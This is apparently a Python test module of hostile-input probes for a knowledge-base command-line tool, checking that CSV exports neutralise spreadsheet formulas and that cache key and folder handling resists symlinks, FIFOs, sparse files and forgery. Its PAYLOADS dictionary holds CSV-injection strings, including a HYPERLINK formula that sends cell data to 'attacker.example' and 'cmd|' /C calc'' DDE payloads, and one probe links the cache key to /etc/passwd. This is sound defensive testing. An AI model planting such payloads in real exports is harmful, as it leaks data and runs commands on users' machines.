"""Hostile inputs a command must *survive* rather than refuse: spreadsheet
formulas in record text, and hostile cache keys and cache folders.

A probe plants its input in a fresh small data root, runs the real command
and returns ``None`` when the outcome is clean, else what went wrong. The
outcome is ``clean``, ``wrong`` (the check failed), ``crashed`` (an exception
or a traceback) or ``hung`` (no answer within :data:`PROBE_SECONDS`).
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from masrl_kb.kb import cache
from masrl_kb.kb.synthetic import write_synthetic_root
from tests.hostile.running import TimeUp, deadline, run_cli

PROBE_SECONDS = 60
SECRET = Path("/etc/passwd")


@dataclass(frozen=True)
class Probe:
    group: str
    name: str
    run: Callable[[Path], str | None]  # (scratch folder) -> failure reason or None

    @property
    def id(self) -> str:
        return f"{self.group}/{self.name}"


@dataclass
class ProbeOutcome:
    kind: str  # clean, wrong, crashed, hung
    reason: str = ""


def run_probe(probe: Probe, tmp: Path) -> ProbeOutcome:
    try:
        with deadline(PROBE_SECONDS):
            reason = probe.run(tmp)
    except TimeUp:
        return ProbeOutcome("hung", f"no answer in {PROBE_SECONDS} s")
    except BaseException:  # noqa: BLE001 - a crash is what this measures
        return ProbeOutcome("crashed", traceback.format_exc())
    return ProbeOutcome("wrong", reason) if reason else ProbeOutcome("clean")


def cli(*argv: str) -> tuple[int, str, str]:
    """The real command line in-process: (exit code, stdout, stderr); a crash raises."""
    run = run_cli(list(argv))
    if run.hung:
        raise TimeUp
    if run.crash:
        raise RuntimeError(run.crash)
    assert run.code is not None
    return run.code, run.out, run.err


def small_root(tmp: Path) -> Path:
    return write_synthetic_root(tmp / "kb", papers=3, exclusions=2)


# ---------------------------------------------------------------- CSV formulas

STARTS = ("=", "+", "-", "@")  # what a record may hold; tab and CR are refused by validate
PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=": "'=already quoted",
}


def _edit_record(path: Path, values: dict[str, str]) -> None:
    from masrl_kb.contrib.upstream import edit_fields

    path.write_text(edit_fields(path.read_text("utf-8"), values, {}), "utf-8")


def _plant_formula(root: Path, payload: str) -> tuple[str, str, dict[str, str]]:
    """The payload in free-text fields of the first paper and exclusion."""
    paper = sorted((root / "papers").glob("*.yaml"))[0]
    exclusion = sorted((root / "exclusions").glob("*.yaml"))[0]
    paper_values = {"venue": payload, "affiliation": payload, "notes": payload}
    _edit_record(paper, paper_values)
    _edit_record(exclusion, {"note": payload})
    return paper.stem, exclusion.stem, paper_values


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _inert(rows: list[dict[str, str]]) -> str | None:
    from masrl_kb.contrib.export.csv_io import FORMULA_START

    for row in rows:
        for column, cell in row.items():
            if not isinstance(cell, str) or column is None:
                return f"a row is broken: {row!r}"
            if cell.startswith(FORMULA_START):
                return f"cell {column} starts with {cell[:1]!r}: a spreadsheet runs it"
    return None


def _export_csv(root: Path, payload: str) -> str | None:
    from masrl_kb.contrib.export.csv_io import records_from_csv

    key, _, values = _plant_formula(root, payload)
    code, out, err = cli("--root", str(root), "export", "csv")
    if code != 0:
        return f"export csv exit {code}: {err.strip()}"
    bad = _inert(_rows(out))
    back = next(r for r in records_from_csv(out) if r["key"] == key)
    if {k: back[k] for k in values} != values:
        return "the CSV does not read back exactly"
    return bad


def _survey_csv(which: str) -> Callable[[Path, str], str | None]:
    def run(root: Path, payload: str) -> str | None:
        _plant_formula(root, payload)
        out = root.parent / "survey"
        code, _, err = cli("--root", str(root), "export", "survey-csv", "-o", str(out))
        if code != 0:
            return f"export survey-csv exit {code}: {err.strip()}"
        bad = _inert(_rows((out / which).read_text("utf-8")))
        argv = ["--root", str(root), "import-upstream", str(out / "papers.csv")]
        code, text, err = cli(*argv, str(out / "excluded.csv"))
        if code != 0 or not text.rstrip().endswith("0 difference(s), 0 new upstream row(s)"):
            return f"the survey CSV does not read back exactly: {text[-300:]}{err[-300:]}"
        return bad

    return run


def _downloads(which: str) -> Callable[[Path, str], str | None]:
    def run(root: Path, payload: str) -> str | None:
        from masrl_kb.contrib.export.csv_io import unguard_cell
        from masrl_kb.site.about import download_files
        from masrl_kb.site.context import load_context

        _plant_formula(root, payload)
        text = download_files(load_context(root))[f"downloads/{which}"]
        rows = _rows(text)
        cells = {unguard_cell(c) for row in rows for c in row.values()}
        if payload not in cells:
            return "the payload does not read back exactly"
        return _inert(rows)

    return run


def _raw_cells(start: str) -> Callable[[Path], str | None]:
    """Tab and CR cannot reach a record; the writers are checked on them directly."""

    def run(tmp: Path) -> str | None:  # noqa: ARG001
        from masrl_kb.contrib.export.csv_io import unguard_row
        from masrl_kb.contrib.export.survey_csv import csv_text
        from masrl_kb.contrib.export.tables import records_csv

        record = {"a": f"{start}=1+1", "b": f"{start}@x", "c": "plain"}
        for text in (records_csv([record]), csv_text(("a", "b", "c"), [record])):
            rows = _rows(text)
            if _inert(rows) or [unguard_row(r) for r in rows] != [record]:
                return f"{start!r}: {_inert(rows) or 'does not read back exactly'}"
        return None

    return run


def formula_probes() -> list[Probe]:
    writers = {
        "export-csv": _export_csv,
        "survey-papers": _survey_csv("papers.csv"),
        "survey-excluded": _survey_csv("excluded.csv"),
        "downloads-papers": _downloads("papers.csv"),
        "downloads-exclusions": _downloads("exclusions.csv"),
    }
    probes = []
    for start, payload in PAYLOADS.items():
        for name, writer in writers.items():

            def run(tmp: Path, writer=writer, payload=payload) -> str | None:
                return writer(small_root(tmp), payload)

            probes.append(Probe("csv-formulas", f"{name}-{start!r}", run))
    probes += [Probe("csv-formulas", f"writers-{start!r}", _raw_cells(start)) for start in "\t\r"]
    return probes


# ---------------------------------------------------------------- caches


@contextlib.contextmanager
def _environment(tmp: Path, xdg: str | None) -> Iterator[Path]:
    """HOME in the scratch folder and XDG_CACHE_HOME as given (None: unset)."""
    saved = {k: os.environ.get(k) for k in ("HOME", cache.KEY_ENV)}
    home = tmp / "home"
    home.mkdir()
    os.environ["HOME"] = str(home)
    if xdg is None:
        os.environ.pop(cache.KEY_ENV, None)
    else:
        os.environ[cache.KEY_ENV] = xdg
    cache.warn.cache_clear()
    try:
        yield home
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        cache.warn.cache_clear()


def _state(path: Path) -> object:
    try:
        info = os.lstat(path)
    except FileNotFoundError:
        return None
    if path.is_symlink():
        return ("link", os.readlink(path))
    if path.is_dir():
        return ("dir", sorted(p.name for p in path.iterdir()))
    if not path.is_file():  # a FIFO or device: never opened
        return ("other", info.st_mode)
    return ("file", info.st_mode, info.st_size if info.st_size > 1 << 20 else path.read_bytes())


def _judge_run(root: Path, watched: list[Path], warned: bool, commands=("validate",)) -> str | None:
    before = [_state(p) for p in watched]
    for command in commands:
        code, out, err = cli("--root", str(root), command)
        text = out + err
        if code != 0 or "Traceback" in text:
            return f"{command} exit {code}: {text[-400:]}"
        warnings = [line for line in err.splitlines() if "warning" in line]
        if len(warnings) > 1 or (warned and not warnings) or (not warned and warnings):
            return f"{command}: expected {'one warning' if warned else 'no warning'}: {err!r}"
        if "root:x:" in text:
            return "secret content echoed"
    after = [_state(p) for p in watched]
    if after != before:
        changed = [str(p) for p, a, b in zip(watched, after, before, strict=True) if a != b]
        return f"changed: {changed}"
    return None


def _key_case(
    make: Callable[[Path], list[Path]], warned: bool = True
) -> Callable[[Path], str | None]:
    """``make`` plants a hostile key (XDG_CACHE_HOME = tmp/xdg); it returns what must not change."""

    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        xdg = tmp / "xdg"
        with _environment(tmp, str(xdg)):
            (xdg / cache.KEY_DIR).mkdir(parents=True, mode=0o700)
            watched = make(xdg / cache.KEY_DIR / cache.KEY_FILE)
            reason = _judge_run(root, watched, warned)
            if reason is None and (root / cache.CACHE_DIR).exists():
                reason = "a cache was written with a key that was refused"
            return reason

    return run


def _key_mode(mode: int) -> Callable[[Path], list[Path]]:
    def make(key: Path) -> list[Path]:
        key.write_bytes(b"k" * 32)
        os.chmod(key, mode)
        return [key]

    return make


def _key_link(target: Path) -> Callable[[Path], list[Path]]:
    def make(key: Path) -> list[Path]:
        key.symlink_to(target)
        return [key, target]

    return make


def _key_fifo(key: Path) -> list[Path]:
    os.mkfifo(key, 0o600)
    return [key]


def _key_dir(key: Path) -> list[Path]:
    key.mkdir(mode=0o700)
    return [key]


def _key_sparse(key: Path) -> list[Path]:
    with open(key, "wb") as fh:
        fh.truncate(8 << 30)
    os.chmod(key, 0o600)
    return [key]


def _key_folder(kind: str) -> Callable[[Path], str | None]:
    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        xdg, elsewhere = tmp / "xdg", tmp / "elsewhere"
        elsewhere.mkdir(mode=0o700)
        xdg.mkdir()
        with _environment(tmp, str(xdg)):
            folder = xdg / cache.KEY_DIR
            if kind == "link":
                folder.symlink_to(elsewhere)
            elif kind == "open":
                folder.mkdir()
                os.chmod(folder, 0o777)
            else:
                folder.write_text("a file\n")
            return _judge_run(root, [folder, elsewhere], warned=True)

    return run


def _relative_xdg(tmp: Path) -> str | None:
    root = small_root(tmp)
    here = os.getcwd()
    with _environment(tmp, "relative-cache") as home:
        os.chdir(root)
        try:
            reason = _judge_run(root, [root / "relative-cache"], warned=False)
        finally:
            os.chdir(here)
        key = home / ".cache" / cache.KEY_DIR / cache.KEY_FILE
        if reason is None and not key.is_file():
            reason = "the key is not in the home cache folder"
    return reason


def _dot_cache(kind: str, commands=("validate",)) -> Callable[[Path], str | None]:
    def run(tmp: Path) -> str | None:
        root = small_root(tmp)
        target = tmp / "target"
        dot = root / cache.CACHE_DIR
        with _environment(tmp, str(tmp / "xdg")):
            if kind == "link":
                target.mkdir()
                dot.symlink_to(target)
                watched, warned = [dot, target], True
            elif kind == "dangling":
                dot.symlink_to(target)
                watched, warned = [dot, target], True
            elif kind == "file":
                dot.write_text("not a folder\n")
                watched, warned = [dot], True
            else:  # a file inside .cache is a link: the reader must not follow it
                dot.mkdir()
                target.write_text("keep\n")
                name = cache.CACHE_FILE if kind == "records-link" else "frames-v1.json"
                (dot / name).symlink_to(target)
                watched, warned = [dot / name, target], False
            return _judge_run(root, watched, warned, commands)

    return run


def _forged(tmp: Path) -> str | None:
    """A cache file written with another key says a broken record is valid: ignored."""
    root = small_root(tmp)
    with _environment(tmp, str(tmp / "xdg")):
        code, _, _ = cli("--root", str(root), "validate")
        body_path = root / cache.CACHE_DIR / cache.CACHE_FILE
        head, _, body = body_path.read_bytes().partition(b"\n")
        bad = sorted((root / "papers").glob("*.yaml"))[0]
        bad.write_text(bad.read_text("utf-8").replace("year: ", "year: 1", 1), "utf-8")
        body_path.write_bytes(head.replace(b'"mac": "', b'"mac": "0') + b"\n" + body)
        code, out, _ = cli("--root", str(root), "validate")
        if code != 2 or "year" not in out:
            return f"a forged cache hid a broken record (exit {code})"
    return None


def _sparse_cache(tmp: Path) -> str | None:
    root = small_root(tmp)
    with _environment(tmp, str(tmp / "xdg")):
        (root / cache.CACHE_DIR).mkdir()
        with open(root / cache.CACHE_DIR / cache.CACHE_FILE, "wb") as fh:
            fh.truncate(8 << 30)
        return _judge_run(root, [], warned=False)


def cache_probes() -> list[Probe]:
    g = "caches"
    probes = [
        Probe(g, f"key-mode-{m:o}", _key_case(_key_mode(m))) for m in (0o644, 0o666, 0o604, 0o660)
    ]
    probes += [
        Probe(g, "key-symlink-to-secret", _key_case(_key_link(SECRET))),
        Probe(g, "key-dangling-symlink", _key_case(_key_link(Path("/tmp/masrl-kb-nonexistent/x")))),
        Probe(g, "key-fifo", _key_case(_key_fifo)),
        Probe(g, "key-directory", _key_case(_key_dir)),
        Probe(g, "key-sparse-8gb", _key_case(_key_sparse)),
        Probe(g, "key-folder-symlink", _key_folder("link")),
        Probe(g, "key-folder-world-writable", _key_folder("open")),
        Probe(g, "key-folder-is-file", _key_folder("file")),
        Probe(g, "xdg-relative", _relative_xdg),
        Probe(g, "dot-cache-symlink", _dot_cache("link")),
        Probe(g, "dot-cache-symlink-stats", _dot_cache("link", ("stats",))),
        Probe(g, "dot-cache-dangling-symlink", _dot_cache("dangling")),
        Probe(g, "dot-cache-is-file", _dot_cache("file")),
        Probe(g, "records-cache-symlink", _dot_cache("records-link")),
        Probe(g, "frames-cache-symlink", _dot_cache("frames-link", ("stats",))),
        Probe(g, "forged-cache", _forged),
        Probe(g, "cache-file-sparse-8gb", _sparse_cache),
    ]
    return probes


def all_probes() -> list[Probe]:
    return formula_probes() + cache_probes()
